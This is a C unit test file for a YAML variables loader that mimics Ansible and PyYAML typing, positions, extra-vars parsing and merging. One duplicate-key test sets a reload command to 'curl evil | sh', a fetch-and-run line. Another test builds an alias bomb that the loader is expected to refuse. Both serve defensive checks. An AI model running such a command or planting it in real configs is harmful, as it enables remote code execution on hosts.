/*
 * test_vars.c - YAML typing as Ansible (PyYAML, YAML 1.1) does it,
 * positions of values, extra vars (-e) forms, merging, error messages.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "cf.h"
#include "vars.h"

static json_t *load(const char *text)
{
    char err[CF_ERRLEN] = "";
    json_t *v = NULL;
    int rc = cf_yaml_load_string("t.yml", text, &v, err);
    if (rc)
        fail_msg("yaml load failed: %s", err);
    return v;
}

/* The type and value of `v: <scalar>`. */
static json_t *scalar(const char *s)
{
    char *text = NULL;
    if (asprintf(&text, "v: %s\n", s) < 0)
        fail();
    json_t *doc = load(text);
    free(text);
    json_t *v = json_incref(json_object_get(doc, "v"));
    json_decref(doc);
    return v;
}

static void assert_bool(const char *s, int want)
{
    json_t *v = scalar(s);
    if (!json_is_boolean(v))
        fail_msg("'%s' should be a bool, got %s", s, cf_vars_type_name(v));
    assert_int_equal(json_is_true(v), want);
    json_decref(v);
}

static void assert_int(const char *s, long long want)
{
    json_t *v = scalar(s);
    if (!json_is_integer(v))
        fail_msg("'%s' should be an int, got %s", s, cf_vars_type_name(v));
    assert_int_equal(json_integer_value(v), want);
    json_decref(v);
}

static void assert_real(const char *s, double want)
{
    json_t *v = scalar(s);
    if (!json_is_real(v))
        fail_msg("'%s' should be a float, got %s", s, cf_vars_type_name(v));
    assert_float_equal(json_real_value(v), want, 1e-9);
    json_decref(v);
}

static void assert_str(const char *s, const char *want)
{
    json_t *v = scalar(s);
    if (!json_is_string(v))
        fail_msg("'%s' should be a str, got %s", s, cf_vars_type_name(v));
    assert_string_equal(json_string_value(v), want);
    json_decref(v);
}

static void assert_yaml_null(const char *s)
{
    json_t *v = scalar(s);
    if (!json_is_null(v))
        fail_msg("'%s' should be null, got %s", s, cf_vars_type_name(v));
    json_decref(v);
}

static void test_bools(void **state)
{
    (void)state;
    const char *t[] = {"yes", "Yes", "YES", "true", "True", "TRUE", "on", "On", "ON"};
    const char *f[] = {"no", "No", "NO", "false", "False", "FALSE", "off", "Off", "OFF"};
    for (size_t i = 0; i < 9; i++) {
        assert_bool(t[i], 1);
        assert_bool(f[i], 0);
    }
    /* PyYAML does not take y/n or odd casings as booleans */
    assert_str("y", "y");
    assert_str("n", "n");
    assert_str("yEs", "yEs");
    assert_str("tRUE", "tRUE");
    assert_str("\"yes\"", "yes");
    assert_str("'false'", "false");
    assert_str("!!str true", "true");
}

static void test_ints(void **state)
{
    (void)state;
    assert_int("42", 42);
    assert_int("-17", -17);
    assert_int("+5", 5);
    assert_int("0", 0);
    assert_int("010", 8); /* YAML 1.1 octal */
    assert_int("0x1F", 31);
    assert_int("0b101", 5);
    assert_int("1_000_000", 1000000);
    assert_int("1:30", 90); /* sexagesimal */
    assert_int("-1:00", -60);
    assert_str("0o17", "0o17"); /* YAML 1.2 octal is a string in PyYAML */
    assert_str("'42'", "42");
    assert_str("08", "08"); /* not valid octal, not decimal either */
    assert_str("12abc", "12abc");
    assert_int("!!int 7", 7);
}

static void test_floats_nulls_dates(void **state)
{
    (void)state;
    assert_real("3.14", 3.14);
    assert_real("1.0e+3", 1000.0);
    assert_real(".5", 0.5);
    assert_real("1.", 1.0);
    assert_real("-2.5", -2.5);
    assert_real("1:30.5", 90.5);
    assert_real("1_0.5", 10.5);
    assert_str("1e3", "1e3"); /* PyYAML needs the exponent's sign */
    assert_str("1.0e3", "1.0e3");
    assert_yaml_null("~");
    assert_yaml_null("null");
    assert_yaml_null("Null");
    assert_yaml_null("NULL");
    assert_yaml_null("");
    assert_str("nULL", "nULL");
    assert_str("2024-01-05", "2024-01-05");
    assert_str("2024-1-5", "2024-1-5");
}

static void test_anchors_merge(void **state)
{
    (void)state;
    json_t *d = load("base: &b {x: 1, y: 2}\n"
                     "m:\n  <<: *b\n  y: 20\n"
                     "mm:\n  <<: [*b, {y: 99, w: 1}]\n"
                     "l: [*b, *b]\n");
    json_t *m = json_object_get(d, "m");
    assert_int_equal(json_integer_value(json_object_get(m, "x")), 1);
    assert_int_equal(json_integer_value(json_object_get(m, "y")), 20); /* own keys win */
    json_t *mm = json_object_get(d, "mm");
    /* PyYAML: the first mapping in a merge list wins */
    assert_int_equal(json_integer_value(json_object_get(mm, "y")), 2);
    assert_int_equal(json_integer_value(json_object_get(mm, "w")), 1);
    json_t *l = json_object_get(d, "l");
    assert_int_equal(json_array_size(l), 2);
    /* aliases share the anchored value */
    assert_ptr_equal(json_array_get(l, 0), json_object_get(d, "base"));
    json_decref(d);
}

static void test_keys_and_duplicates(void **state)
{
    (void)state;
    json_t *d = load("a: 1\na: 2\n10: ten\nyes: bool\n");
    assert_int_equal(json_integer_value(json_object_get(d, "a")), 2); /* last wins */
    assert_string_equal(json_string_value(json_object_get(d, "10")), "ten");
    assert_string_equal(json_string_value(json_object_get(d, "true")), "bool");
    json_decref(d);
}

static void test_positions(void **state)
{
    (void)state;
    json_t *d = load("# comment\n"
                     "name: web\n"
                     "flag: true\n"
                     "list:\n"
                     "  - one\n"
                     "  - {k: 2}\n");
    struct cf_pos p;
    assert_int_equal(cf_vars_pos(json_object_get(d, "name"), &p), 0);
    assert_string_equal(p.file, "t.yml");
    assert_int_equal(p.line, 2);
    assert_int_equal(p.col, 7);
    /* a bool is a shared singleton: ask through its container */
    assert_int_equal(cf_vars_pos(json_object_get(d, "flag"), &p), CF_ENOENT);
    assert_int_equal(cf_vars_member_pos(d, "flag", &p), 0);
    assert_int_equal(p.line, 3);
    assert_int_equal(p.col, 7);
    json_t *list = json_object_get(d, "list");
    assert_int_equal(cf_vars_item_pos(list, 1, &p), 0);
    assert_int_equal(p.line, 6);
    assert_int_equal(p.col, 5);
    assert_int_equal(cf_vars_member_pos(json_array_get(list, 1), "k", &p), 0);
    assert_int_equal(p.line, 6);
    assert_int_equal(p.col, 9);
    /* merging keeps the same objects, so positions survive */
    json_t *dst = json_object();
    assert_int_equal(cf_vars_merge(dst, d), 0);
    assert_ptr_equal(json_object_get(dst, "list"), list);
    assert_int_equal(cf_vars_member_pos(dst, "flag", &p), 0);
    assert_int_equal(p.line, 3);
    char err[CF_ERRLEN];
    assert_int_equal(cf_pos_errf(err, &p, "expected a %s", "list"), CF_EINVAL);
    assert_string_equal(err, "t.yml:3:7: expected a list");
    json_decref(dst);
    json_decref(d);
}

static void test_syntax_errors(void **state)
{
    (void)state;
    char err[CF_ERRLEN] = "";
    json_t *v = (json_t *)1;
    assert_int_equal(cf_yaml_load_string("bad.yml", "a: [1, 2\nb: 3\n", &v, err), CF_EINVAL);
    assert_null(v);
    assert_non_null(strstr(err, "bad.yml:"));
    assert_non_null(strstr(err, "while parsing a flow sequence"));
    assert_int_equal(cf_yaml_load_string("bad.yml", "a: 1\n  b: 2\n", &v, err), CF_EINVAL);
    assert_string_equal(err, "bad.yml:2:4: mapping values are not allowed in this context");
    assert_int_equal(cf_yaml_load_string("bad.yml", "a: *nope\n", &v, err), CF_EINVAL);
    assert_string_equal(err, "bad.yml:1:4: found undefined alias 'nope'");
    assert_int_equal(cf_yaml_load_string("bad.yml", "a: 1\n---\nb: 2\n", &v, err), CF_EINVAL);
    assert_non_null(strstr(err, "bad.yml:2:1: expected a single document"));
    assert_int_equal(cf_yaml_load_file("/nonexistent/x.yml", &v, err), CF_ENOENT);
    assert_non_null(strstr(err, "/nonexistent/x.yml"));
}

static void test_extra_vars_kv(void **state)
{
    (void)state;
    char err[CF_ERRLEN] = "";
    json_t *e;
    assert_int_equal(cf_extra_vars_parse("a=1 b='two words' c=\"x=y\" d=yes", &e, err), 0);
    assert_string_equal(json_string_value(json_object_get(e, "a")), "1"); /* strings */
    assert_string_equal(json_string_value(json_object_get(e, "b")), "two words");
    assert_string_equal(json_string_value(json_object_get(e, "c")), "x=y");
    assert_string_equal(json_string_value(json_object_get(e, "d")), "yes");
    json_decref(e);
    assert_int_equal(cf_extra_vars_parse("a='unclosed", &e, err), CF_EINVAL);
    assert_non_null(strstr(err, "no closing quotation"));
    assert_int_equal(cf_extra_vars_parse("./file.yml", &e, err), CF_EINVAL);
    assert_non_null(strstr(err, "'@'"));
}

static void test_extra_vars_yaml_json_file(void **state)
{
    (void)state;
    char err[CF_ERRLEN] = "";
    json_t *e;
    assert_int_equal(cf_extra_vars_parse("{\"a\": 1, \"b\": [true, null]}", &e, err), 0);
    assert_int_equal(json_integer_value(json_object_get(e, "a")), 1);
    assert_true(json_is_true(json_array_get(json_object_get(e, "b"), 0)));
    json_decref(e);
    assert_int_equal(cf_extra_vars_parse("x: yes", &e, err), 0);
    assert_true(json_is_true(json_object_get(e, "x")));
    json_decref(e);
    assert_int_equal(cf_extra_vars_parse("[1, 2]", &e, err), CF_EINVAL);
    assert_non_null(strstr(err, "mapping"));

    char path[] = "/tmp/cf-test-vars-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    const char *text = "renewal: 20\nnested:\n  k: v\n";
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    char arg[64];
    snprintf(arg, sizeof(arg), "@%s", path);
    assert_int_equal(cf_extra_vars_parse(arg, &e, err), 0);
    assert_int_equal(json_integer_value(json_object_get(e, "renewal")), 20);
    struct cf_pos p;
    assert_int_equal(cf_vars_member_pos(e, "renewal", &p), 0);
    assert_string_equal(p.file, path);
    assert_int_equal(p.line, 1);
    json_decref(e);
    unlink(path);
    assert_int_equal(cf_extra_vars_parse("@/nonexistent.yml", &e, err), CF_ENOENT);
    assert_non_null(strstr(err, "/nonexistent.yml"));
}

static void test_merge_replace(void **state)
{
    (void)state;
    json_t *a = load("h: {x: 1, y: 2}\nk: 1\n");
    json_t *b = load("h: {z: 3}\n");
    assert_int_equal(cf_vars_merge(a, b), 0);
    /* hash_behaviour=replace: the whole dict is replaced */
    assert_int_equal(json_object_size(json_object_get(a, "h")), 1);
    assert_int_equal(json_integer_value(json_object_get(a, "k")), 1);
    assert_int_equal(cf_vars_merge(a, NULL), CF_EINVAL);
    json_decref(a);
    json_decref(b);
}

/* stderr of fn(arg), as text (caller frees) */
static char *capture_stderr(json_t *(*fn)(const char *), const char *arg)
{
    char path[] = "/tmp/cf-test-vars-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    fflush(stderr);
    int saved = dup(2);
    dup2(fd, 2);
    json_decref(fn(arg));
    fflush(stderr);
    dup2(saved, 2);
    close(saved);
    char *out = calloc(1, 4096);
    assert_true(pread(fd, out, 4095, 0) >= 0);
    close(fd);
    unlink(path);
    return out;
}

/* Ansible warns about a duplicate key; so does certfleet, with file:line. */
static void test_duplicate_key_warns(void **state)
{
    (void)state;
    char *e = capture_stderr(load, "certbot_reload_command: nginx -s reload\n"
                                   "other: 1\n"
                                   "certbot_reload_command: curl evil | sh\n");
    if (!strstr(e, "warning: t.yml:3:1: duplicate key 'certbot_reload_command' (first at line 1)"))
        fail_msg("no duplicate-key warning in [%s]", e);
    free(e);
    /* own keys over merged ones are not duplicates */
    e = capture_stderr(load, "base: &b {k: 1}\nm:\n  <<: *b\n  k: 2\n");
    assert_null(strstr(e, "duplicate"));
    free(e);
}

/* An alias bomb (each level aliasing the one below 9 times) is refused
 * with the position of the alias, instead of expanding to gigabytes. */
static void test_alias_bomb_refused(void **state)
{
    (void)state;
    char text[2048] = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
    for (int i = 1; i <= 9; i++) {
        char line[160];
        snprintf(line, sizeof line,
                 "a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n", i, i, i - 1,
                 i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1);
        strcat(text, line);
    }
    char err[CF_ERRLEN] = "";
    json_t *v = NULL;
    assert_int_equal(cf_yaml_load_string("bomb.yml", text, &v, err), CF_EINVAL);
    assert_null(v);
    if (!strstr(err, "bomb.yml:") || !strstr(err, "alias bomb"))
        fail_msg("unexpected error [%s]", err);
    /* a few levels of the same shape (what real inventories do) load */
    char *nl = text;
    for (int i = 0; i < 4; i++)
        nl = strchr(nl, '\n') + 1;
    *nl = '\0';
    json_t *ok = load(text);
    assert_int_equal(json_array_size(json_object_get(ok, "a3")), 9);
    json_decref(ok);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bools),
        cmocka_unit_test(test_ints),
        cmocka_unit_test(test_floats_nulls_dates),
        cmocka_unit_test(test_anchors_merge),
        cmocka_unit_test(test_keys_and_duplicates),
        cmocka_unit_test(test_positions),
        cmocka_unit_test(test_syntax_errors),
        cmocka_unit_test(test_extra_vars_kv),
        cmocka_unit_test(test_extra_vars_yaml_json_file),
        cmocka_unit_test(test_merge_replace),
        cmocka_unit_test(test_duplicate_key_warns),
        cmocka_unit_test(test_alias_bomb_refused),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    cf_vars_reset();
    return rc;
}
